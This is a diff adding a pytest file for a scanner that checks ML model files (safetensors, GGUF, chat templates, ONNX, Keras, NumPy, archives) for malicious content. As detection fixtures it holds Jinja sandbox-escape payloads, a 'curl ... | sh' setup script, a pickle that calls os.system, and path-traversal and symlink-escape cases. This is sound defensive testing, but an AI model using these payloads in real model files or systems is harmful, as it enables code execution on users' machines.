@@ -1,0 +1,304 @@
+"""The non-pickle analysers: safetensors, GGUF, chat templates, ONNX, Keras, SavedModel, NumPy, folders."""
+
+from __future__ import annotations
+
+import json
+import os
+import struct
+from pathlib import Path
+
+import numpy as np
+import onnx
+import pytest
+import safetensors.numpy
+
+from modelwarden.model import Severity
+from modelwarden.scan import scan_paths
+from modelwarden.scan.context import Ctx, Scope, Sink
+from modelwarden.scan.engine import analyse_buffer
+from modelwarden.scan.templates import analyse_template
+from tests.scan import corpus
+
+
+def _rules(path: Path) -> dict[str, Severity]:
+    report = scan_paths([path], hash_files=False)
+    assert not report.problems
+    return {f.rule_id: f.severity for f in report.findings}
+
+
+def _safetensors(tmp_path: Path, header: object, data: bytes, raw: bytes | None = None) -> Path:
+    text = raw if raw is not None else json.dumps(header).encode()
+    path = tmp_path / "model.safetensors"
+    path.write_bytes(struct.pack("<Q", len(text)) + text + data)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("header", "data", "raw", "rule"),
+    [
+        (
+            {"a": {"dtype": "F99", "shape": [1], "data_offsets": [0, 4]}},
+            bytes(4),
+            None,
+            "safetensors.invalid-tensor",
+        ),
+        (
+            {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}},
+            bytes(8),
+            None,
+            "safetensors.invalid-tensor",
+        ),
+        (
+            {"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}},
+            bytes(4),
+            None,
+            "safetensors.invalid-tensor",
+        ),
+        (
+            {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 800]}},
+            bytes(8),
+            None,
+            "safetensors.invalid-tensor",
+        ),
+        ({"__metadata__": {"k": 1}}, b"", None, "safetensors.metadata"),
+        ({"a": {"dtype": "U8", "shape": [1], "data_offsets": [1, 2]}}, bytes(2), None, "safetensors.overlap"),
+        (
+            {"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}},
+            bytes(9),
+            None,
+            "safetensors.trailing-data",
+        ),
+        (None, b"", b'{"a": 1, "a": 2}', "safetensors.invalid-header"),
+        (None, b"", b"[1, 2]", "safetensors.invalid-header"),
+        (None, b"", b'{"a": \xff}', "safetensors.invalid-header"),
+    ],
+)
+def test_safetensors_header_validation(
+    tmp_path: Path, header: object, data: bytes, raw: bytes | None, rule: str
+) -> None:
+    assert rule in _rules(_safetensors(tmp_path, header, data, raw))
+
+
+def test_valid_safetensors_including_sub_byte_and_fp8_dtypes(tmp_path: Path) -> None:
+    header = {
+        "__metadata__": {"format": "pt"},
+        "fp8": {"dtype": "F8_E4M3", "shape": [4], "data_offsets": [0, 4]},
+        "fp4": {"dtype": "F4", "shape": [4], "data_offsets": [4, 6]},
+        "empty": {"dtype": "F32", "shape": [0], "data_offsets": [6, 6]},
+    }
+    assert _rules(_safetensors(tmp_path, header, bytes(6))) == {}
+
+
+def test_gguf_with_absurd_counts_is_malformed_not_a_crash(tmp_path: Path) -> None:
+    path = tmp_path / "bad.gguf"
+    path.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 1, 2**62) + b"\x00" * 16)
+    assert _rules(path) == {"gguf.malformed": Severity.MEDIUM}
+    good = corpus._gguf(tmp_path / "good.gguf", corpus.LLAMA3_TEMPLATE)
+    data = good.read_bytes()
+    cut = tmp_path / "cut.gguf"
+    cut.write_bytes(data[: len(data) // 3])
+    assert "gguf.malformed" in _rules(cut)
+
+
+def test_gguf_named_chat_templates_are_checked(tmp_path: Path) -> None:
+    import gguf
+
+    path = tmp_path / "multi.gguf"
+    w = gguf.GGUFWriter(str(path), "llama")
+    w.add_chat_template([{"name": "default", "template": corpus.CHATML_TEMPLATE},
+                         {"name": "tool_use", "template": corpus.MALICIOUS_TEMPLATES["cycler"]}])  # fmt: skip
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.close()
+    report = scan_paths([path], hash_files=False)
+    escape = [f for f in report.findings if f.rule_id == "template.sandbox-escape"]
+    assert escape and "tokenizer.chat_template.tool_use" in (escape[0].location.entry or "")
+
+
+def _template_rules(source: str) -> set[str]:
+    sink = Sink()
+    ctx = Ctx(sink=sink, dispatch=analyse_buffer)
+    analyse_template(source, Scope(file="t"), ctx, label="t")
+    return {f.rule_id for f in sink.findings}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [corpus.LLAMA3_TEMPLATE, corpus.CHATML_TEMPLATE, corpus.QWEN_STYLE_TEMPLATE, corpus.MISTRAL_TEMPLATE],
+)
+def test_ordinary_chat_templates_are_clean(source: str) -> None:
+    assert _template_rules(source) == set()
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        ("{{ x.__class__ }}", "template.sandbox-escape"),
+        ("{{ x['__globals__'] }}", "template.sandbox-escape"),
+        ("{{ x|attr('__subclasses__') }}", "template.sandbox-escape"),
+        ("{{ self._TemplateReference__context }}", "template.sandbox-escape"),
+        ("{{ '{0.__class__}'.format(x) }}", "template.sandbox-escape"),
+        ("{{ x._private }}", "template.suspicious"),
+        ("{{ x[('__cl' ~ 'ass__')] }}", "template.suspicious"),
+        ("{{ x|attr(name) }}", "template.suspicious"),
+        ("{{ cycler.next }}", "template.suspicious"),
+        ("{% include 'secrets.txt' %}", "template.suspicious"),
+        ("{% import 'macros.j2' as m %}", "template.suspicious"),
+        ("{{ os }}", "template.suspicious"),
+        ("{{ f.popen('id') }}", "template.suspicious"),
+        ("{% for %}", "template.syntax-error"),
+    ],
+)
+def test_template_constructs(source: str, rule: str) -> None:
+    assert rule in _template_rules(source)
+
+
+def test_templates_are_never_rendered(tmp_path: Path) -> None:
+    # If the scanner rendered templates this would create a file.
+    marker = tmp_path / "rendered"
+    source = "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}"
+    assert "template.sandbox-escape" in _template_rules(source)
+    assert not marker.exists()
+
+
+def test_onnx_external_data_rules(tmp_path: Path) -> None:
+    ok = corpus._onnx_external(tmp_path / "a.onnx", "weights.bin")
+    assert _rules(ok) == {"onnx.external-data-missing": Severity.LOW}
+    (tmp_path / "weights.bin").write_bytes(bytes(16))
+    assert _rules(ok) == {}
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret").write_bytes(bytes(16))
+    model_dir = tmp_path / "m"
+    model_dir.mkdir()
+    os.symlink(outside / "secret", model_dir / "w.bin")
+    linked = corpus._onnx_external(model_dir / "model.onnx", "w.bin")
+    assert _rules(linked) == {"onnx.external-data-traversal": Severity.CRITICAL}
+    win = corpus._onnx_external(tmp_path / "w.onnx", "C:\\Windows\\system.ini")
+    assert "onnx.external-data-traversal" in _rules(win)
+
+
+def test_onnx_subgraph_custom_domain_is_found(tmp_path: Path) -> None:
+    from onnx import TensorProto, helper
+
+    inner = helper.make_graph(
+        [helper.make_node("Custom", ["a"], ["b"], domain="org.acme")],
+        "then",
+        [],
+        [helper.make_tensor_value_info("b", TensorProto.FLOAT, [1])],
+    )
+    cond = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
+    graph = helper.make_graph(
+        [cond],
+        "g",
+        [helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
+    )
+    path = tmp_path / "if.onnx"
+    onnx.save_model(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
+    assert _rules(path) == {"onnx.custom-domain": Severity.MEDIUM}
+    path.write_bytes(path.read_bytes()[:-7])
+    assert "onnx.malformed" in _rules(path)
+
+
+def test_keras_config_rules(tmp_path: Path) -> None:
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {
+            "layers": [
+                {"module": "keras.layers", "class_name": "Dense", "config": {"activation": "relu"}},
+                {"class_name": "TFOpLambda", "config": {"function": "io.write_file"}},
+                {
+                    "class_name": "Lambda",
+                    "config": {"function": ["YWJj", None, None], "function_type": "lambda"},
+                },
+                {"module": "keras_hub.layers", "class_name": "TransformerEncoder", "config": {}},
+            ]
+        },
+    }
+    path = tmp_path / "config.json"
+    path.write_text(json.dumps(config))
+    assert _rules(path) == {
+        "keras.dangerous-function": Severity.CRITICAL,
+        "keras.lambda-layer": Severity.CRITICAL,
+    }
+
+
+def test_hdf5_without_model_config_is_plain_weights(tmp_path: Path) -> None:
+    import h5py
+
+    path = tmp_path / "model.weights.h5"
+    with h5py.File(path, "w") as f:
+        f.create_dataset("dense/kernel", data=np.zeros((2, 2)))
+    report = scan_paths([path], hash_files=False)
+    assert report.findings == [] and report.files[0].format.value == "hdf5"
+
+
+def test_savedmodel_garbage_is_malformed(tmp_path: Path) -> None:
+    folder = tmp_path / "sm"
+    folder.mkdir()
+    (folder / "saved_model.pb").write_bytes(b"\x12\xff\xff\xff\xff\x0f garbage")
+    assert _rules(folder) == {"savedmodel.malformed": Severity.MEDIUM}
+
+
+def test_npy_header_problems(tmp_path: Path) -> None:
+    path = tmp_path / "a.npy"
+    np.save(path, np.zeros(100, dtype=np.float32))
+    data = path.read_bytes()
+    path.write_bytes(data[:200])
+    assert _rules(path) == {"numpy.malformed": Severity.MEDIUM}
+    path.write_bytes(data[:10] + b"{'descr': __import__('os')}" + data[37:])
+    assert _rules(path) == {"numpy.malformed": Severity.MEDIUM}
+
+
+def test_hf_cache_snapshot_symlinks_into_blobs_are_fine(tmp_path: Path) -> None:
+    repo = tmp_path / "models--org--tiny"
+    blobs = repo / "blobs"
+    snap = repo / "snapshots" / "abc123"
+    blobs.mkdir(parents=True)
+    snap.mkdir(parents=True)
+    safetensors.numpy.save_file({"w": np.zeros(2, dtype=np.float32)}, blobs / "deadbeef")
+    os.symlink("../../blobs/deadbeef", snap / "model.safetensors")
+    os.symlink("/etc/hostname", snap / "escape.json")
+    report = scan_paths([snap], hash_files=True)
+    assert [f.rule_id for f in report.findings] == ["folder.symlink-escape"]
+    assert [f.path for f in report.files] == [str(snap / "model.safetensors")]
+    assert report.files[0].format.value == "safetensors"
+
+
+def test_python_files_are_classified(tmp_path: Path) -> None:
+    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoConfig": "org/other--cfg.MyConfig"}}))
+    (tmp_path / "cfg.py").write_text("x = 1\n")
+    (tmp_path / "train_script.py").write_text("#!/usr/bin/env python\nprint('train')\n")
+    report = scan_paths([tmp_path], hash_files=False)
+    by_file = {(Path(f.file).name, f.rule_id) for f in report.findings}
+    assert ("cfg.py", "folder.remote-code") in by_file
+    assert ("train_script.py", "folder.python-file") in by_file
+    assert ("config.json", "folder.remote-code") in by_file
+    auto_map = next(f for f in report.findings if Path(f.file).name == "config.json")
+    assert "another repository" in auto_map.message
+
+
+def test_scripts_and_binaries(tmp_path: Path) -> None:
+    script = tmp_path / "setup.sh"
+    script.write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
+    assert _rules(script) == {"folder.script": Severity.MEDIUM}
+    rar = tmp_path / "weights.bin"
+    rar.write_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(100))
+    assert _rules(rar) == {"archive.unscannable": Severity.MEDIUM}
+
+
+def test_tar_members_are_scanned(tmp_path: Path) -> None:
+    import io
+    import pickle
+    import tarfile
+
+    path = tmp_path / "model.tar.gz"
+    evil = pickle.dumps(corpus._Reduce(os.system, "true"))
+    with tarfile.open(path, "w:gz") as tar:
+        info = tarfile.TarInfo("model/weights.pkl")
+        info.size = len(evil)
+        tar.addfile(info, io.BytesIO(evil))
+    rules = _rules(path)
+    assert rules["pickle.dangerous-import"] is Severity.CRITICAL and "archive.nested" in rules
